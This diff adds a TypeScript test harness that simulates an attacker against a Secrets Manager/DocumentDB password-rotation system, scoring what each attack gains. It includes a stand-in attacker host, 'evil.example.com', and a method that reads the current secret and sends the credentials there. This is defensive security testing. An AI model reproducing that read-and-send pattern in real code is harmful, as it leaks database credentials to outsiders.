@@ -1,0 +1,310 @@
+import type { Database, Role, Session } from '../../../functions/shared/ports.ts';
+import { PROVEN_TAG } from '../../../functions/shared/proven.ts';
+import type { Login } from '../../../functions/shared/secret-value.ts';
+import { mayChangeUsers, sameRoles } from '../../../functions/shared/users.ts';
+import { versionIdsOf } from '../../../functions/shared/version-ids.ts';
+import { CLUSTER, INSTANCES, PORT, READ_WRITE, ROOT } from '../../helpers/in-memory-database.ts';
+import { newPassword, newVersionId } from '../../helpers/in-memory-secret-store.ts';
+import { PortCalls } from '../../helpers/port-calls.ts';
+import {
+  executionArn,
+  RecoveryMachine,
+  RetirementMachine,
+  RotationMachine,
+  stoppedEvent,
+} from '../../helpers/rotation-machine.ts';
+import { begunByService, portsOf } from '../../helpers/rotation-steps.ts';
+import { RotationWorld, SECRET, secretText } from '../../helpers/rotation-world.ts';
+import { type Ending, ExecutionAbortedError } from '../../helpers/state-machine.ts';
+import type { Right, Want } from './rights.ts';
+import type { ArenaOptions } from './worlds.ts';
+
+/** A server of the attacker's. It lets everyone in, and has every user. */
+export const EVIL_HOST = 'evil.example.com';
+
+/** The attacker's own user of the cluster, of little power. */
+export const OWN_USER = 'mallory';
+
+const LITTLE: readonly Role[] = [{ role: 'read', db: 'blog' }];
+
+/** Of another application. */
+export const OTHER_USER = 'billing';
+
+/** A fresh world, and what the attacker may do in it. */
+export class Arena {
+  readonly world: RotationWorld;
+  readonly user: string;
+  readonly pairUser: string;
+  readonly #rights: readonly Right[];
+  /** Credentials that the attacker knows; never one that the attacker made up and the database does not have. */
+  readonly #known: { username: string; password: string }[] = [];
+  /** Those that were read: to log in with these is what reading gives. */
+  readonly #readOnes = new Set<string>();
+  readonly ownPassword = newPassword();
+  /** Passwords that came to the attacker's server and were not written by the attacker, nor made for it. */
+  readonly #caught: string[] = [];
+  readonly #genuine: () => readonly string[];
+  readonly #before: Readonly<Record<string, string>>;
+  #number = 0;
+  /** Whether the moment of an attack came. */
+  wasReached = false;
+
+  constructor(rights: readonly Right[], { options, pair, wasRotated }: ArenaOptions) {
+    this.#rights = rights;
+    this.wasRotated = wasRotated;
+    this.world = new RotationWorld(options);
+    const { database, clusters } = this.world;
+    this.user = options.username ?? 'app';
+    this.pairUser = `${this.user}_clone`;
+    database.addUser(OWN_USER, this.ownPassword, LITTLE);
+    database.addUser(OTHER_USER, newPassword(), READ_WRITE);
+    if (database.user('root') === undefined) database.addUser('root', newPassword(), ROOT, true);
+    if (pair === 'somebody else’s') database.addUser(this.pairUser, newPassword(), READ_WRITE);
+    if (pair === 'the attacker’s') database.addUser(this.pairUser, this.ownPassword, LITTLE);
+    this.isPairForeign = pair === 'somebody else’s';
+    this.#isPairMine = pair === 'the attacker’s';
+    this.#known.push({ username: OWN_USER, password: this.ownPassword });
+    if (this.#isPairMine) this.#known.push({ username: this.pairUser, password: this.ownPassword });
+    clusters.primaryUser = options.cluster === undefined ? 'root' : this.user;
+    this.#genuine = () => database.usernames().map((name) => database.user(name)?.password ?? '');
+    this.#before = this.#others();
+    this.#listen();
+  }
+
+  readonly isPairForeign: boolean;
+  readonly #isPairMine: boolean;
+  readonly wasRotated: boolean;
+
+  /** What the attacker may do. Each refuses without the right, so that an attack can't claim fewer rights than it uses. */
+  #need(right: Right): void {
+    if (!this.#rights.includes(right))
+      throw new Error(`the attack uses the right to ${right}, and does not say so`);
+  }
+
+  /** PutSecretValue: any keys, label and version id. */
+  write(
+    keys: Readonly<Record<string, unknown>> | string,
+    label: string | string[] = 'AWSCURRENT',
+    id = newVersionId(),
+  ): string {
+    this.#need('write');
+    const value = typeof keys === 'string' ? keys : secretText({ username: this.user, ...keys });
+    const labels = typeof label === 'string' ? [label] : label;
+    this.world.store.putWithId(SECRET, id, value, labels);
+    return id;
+  }
+
+  /** A password of the attacker's own, with which they try to log in later. */
+  mine(username = this.user): { username: string; password: string } {
+    const credential = { username, password: newPassword() };
+    this.#known.push(credential);
+    return credential;
+  }
+
+  /** GetSecretValue, of every version. */
+  read(): { username: string; password: string }[] {
+    this.#need('read');
+    const versions = this.world.store.versionIds(SECRET);
+    const found = versions.flatMap((version) => this.world.credentialOf(version) ?? []);
+    this.#known.push(...found);
+    for (const { password } of found) this.#readOnes.add(password);
+    return found;
+  }
+
+  /** TagResource. */
+  tag(key: string, value: string): void {
+    this.#need('tag');
+    this.world.store.setTag(SECRET, `docdb-rotation:${key}`, value);
+  }
+
+  tagProven(...versions: string[]): void {
+    this.#need('tag');
+    this.world.store.setTag(SECRET, PROVEN_TAG, versions.join(' '));
+  }
+
+  /** StartExecution of the rotation, by any name. */
+  start(input: object = {}, name = this.#name(), calls = new PortCalls()): Promise<Ending> {
+    this.#need('start');
+    return this.#rotate(input, name, calls);
+  }
+
+  /** StartExecution of the retirement. */
+  async retire(input: object): Promise<Ending> {
+    this.#need('start');
+    return await new RetirementMachine(this.world, { calls: new PortCalls() }).run(
+      executionArn(this.#name(), 'retirement'),
+      { secretId: SECRET, graceSeconds: 0, ...input },
+    );
+  }
+
+  /** StartExecution of the recovery. */
+  recover(input: object = {}): Promise<Ending> {
+    this.#need('recover');
+    return this.#recover({ secretId: SECRET, ...input });
+  }
+
+  /** Another version of the functions: what they may do, the attacker may. */
+  deploy(): ReturnType<typeof portsOf> {
+    this.#need('deploy');
+    return portsOf(this.world);
+  }
+
+  /** Deployed functions hand over what they read. */
+  learn(credential: { username: string; password: string }): void {
+    this.#need('deploy');
+    this.#known.push(credential);
+  }
+
+  /** What deployed functions may read, they may send anywhere. */
+  async sendToOwnHost(): Promise<void> {
+    const { secrets, database } = this.deploy();
+    const current = await secrets.readCurrent(this.world.secretArn);
+    const { username, password } = JSON.parse(current?.text ?? '{}');
+    this.world.database.addUser(username, password, []);
+    await database.login({ host: EVIL_HOST, port: PORT, tls: true, username, password });
+    this.world.database.removeUser(username);
+  }
+
+  /** The version ids of an execution, which whoever chooses its name can compute. */
+  idsOf(name: string): string[] {
+    return versionIdsOf(executionArn(name));
+  }
+
+  /** What honest people and schedules do, sooner or later. */
+  readonly honest = {
+    /** A rotation on demand; something may happen before one of its calls. */
+    rotate: (at?: number, act?: () => void, mode = 'rotate', name = this.#name()): Promise<Ending> =>
+      this.#rotate(mode === 'rotate' ? {} : { mode }, name, this.#meanwhile(at, act)),
+    /** By Secrets Manager's schedule. */
+    scheduled: async (at?: number, act?: () => void): Promise<Ending | undefined> => {
+      const name = `${this.#name()}-1`;
+      try {
+        const token = await begunByService(this.world, executionArn(name));
+        return await this.#rotate({ token }, name, this.#meanwhile(at, act));
+      } catch {
+        return undefined;
+      }
+    },
+    recover: (input: object = {}): Promise<Ending> => this.#recover({ secretId: SECRET, ...input }),
+  };
+
+  #name(): string {
+    this.#number += 1;
+    return `run-${this.#number}`;
+  }
+
+  #meanwhile(at: number | undefined, act: (() => void) | undefined): PortCalls {
+    let call = 0;
+    return new PortCalls({
+      turn: async () => {
+        call += 1;
+        if (call !== at) return;
+        this.wasReached = true;
+        act?.();
+      },
+    });
+  }
+
+  async #rotate(input: object, name: string, calls: PortCalls): Promise<Ending> {
+    const arn = executionArn(name);
+    const full = { secretId: SECRET, ...input };
+    const machine = new RotationMachine(this.world, { calls });
+    const ending = await endOf(machine.run(arn, full));
+    await this.#retireAfter(machine);
+    // The rule for executions that ended without compensation.
+    if (ending.error === 'RotationSupersededError')
+      await this.#recover({ ...stoppedEvent(arn, full, 'FAILED'), error: ending.error });
+    return ending;
+  }
+
+  async #retireAfter(machine: RotationMachine): Promise<void> {
+    for (const request of machine.retirements) {
+      const { Input } = request as { Input: unknown };
+      const input = typeof Input === 'string' ? JSON.parse(Input) : Input;
+      const { AWS_STEP_FUNCTIONS_STARTED_BY_EXECUTION_ID: _, ...rest } = input;
+      const arn = executionArn(this.#name(), 'retirement');
+      await endOf(new RetirementMachine(this.world, { calls: new PortCalls() }).run(arn, rest));
+    }
+  }
+
+  #recover(input: object): Promise<Ending> {
+    const arn = executionArn(this.#name(), 'recovery');
+    return endOf(new RecoveryMachine(this.world, { calls: new PortCalls() }).run(arn, input));
+  }
+
+  /** What the attack has come to. */
+  gained(): Want[] {
+    const accepted = this.#known.filter((credential) => this.world.database.accepts(credential));
+    const users = new Set(accepted.map(({ username }) => username));
+    const notRead = new Set(
+      accepted.filter(({ password }) => !this.#readOnes.has(password)).map(({ username }) => username),
+    );
+    const mine = [OWN_USER, ...(this.#isPairMine ? [this.pairUser] : [])];
+    const roles = mine
+      .filter((name) => notRead.has(name))
+      .map((name) => this.world.database.user(name)?.roles ?? []);
+    const isAdmin = users.has('root') || roles.some(mayChangeUsers);
+    const hasMore = roles.some((some) => !sameRoles(some, LITTLE) && !mayChangeUsers(some));
+    const others = this.#others();
+    const isTouched = Object.entries(this.#before).some(([name, user]) => others[name] !== user);
+    const current = this.world.store.holder(SECRET, 'AWSCURRENT') ?? '';
+    return [
+      ...(users.has(this.user) ? (['user'] as const) : []),
+      ...(users.has(this.pairUser) && this.isPairForeign ? (['pair'] as const) : []),
+      ...(users.has(this.pairUser) && !this.isPairForeign && !this.#isPairMine ? (['user'] as const) : []),
+      ...(users.has(OTHER_USER) ? (['another user'] as const) : []),
+      ...(isAdmin ? (['admin'] as const) : []),
+      ...(hasMore ? (['roles'] as const) : []),
+      ...(this.#caught.length > 0 ? (['host'] as const) : []),
+      ...(isTouched ? (['harm'] as const) : []),
+      ...(this.world.logsIn(current) ? [] : (['outage'] as const)),
+    ];
+  }
+
+  /** Users that are not the secret's own, as they stand in the database. */
+  #others(): Record<string, string> {
+    const { database } = this.world;
+    const foreign = [OTHER_USER, 'root', ...(this.isPairForeign ? [this.pairUser] : [])];
+    return Object.fromEntries(foreign.map((name) => [name, JSON.stringify(database.user(name) ?? null)]));
+  }
+
+  /** The attacker's server stands where the database in memory has none. */
+  #listen(): void {
+    const { database } = this.world;
+    const original = database.port.bind(database);
+    database.port = (gate) => {
+      const port: Database = original(gate);
+      return {
+        login: async (login) => {
+          if (login.host === CLUSTER || INSTANCES.includes(login.host)) return await port.login(login);
+          return this.#evilSession(login);
+        },
+      };
+    };
+  }
+
+  #evilSession(login: Login): Session {
+    if (this.#genuine().includes(login.password)) this.#caught.push(login.password);
+    return {
+      ping: async () => {},
+      instances: async () => [{ host: login.host, port: PORT }],
+      takesWrites: async () => 'here',
+      ownRoles: async () => ROOT,
+      findUser: async () => ({ roles: ROOT }),
+      createUser: async () => {},
+      updateUser: async () => {},
+      dropUser: async () => {},
+      [Symbol.asyncDispose]: async () => {},
+    };
+  }
+}
+
+/** An execution that came to no end of its own is no end of the attack. */
+const endOf = async (running: Promise<Ending>): Promise<Ending> => {
+  try {
+    return await running;
+  } catch (error) {
+    if (!(error instanceof ExecutionAbortedError)) throw error;
+    return { status: 'FAILED', error: 'aborted', path: [], trail: [] };
+  }
+};
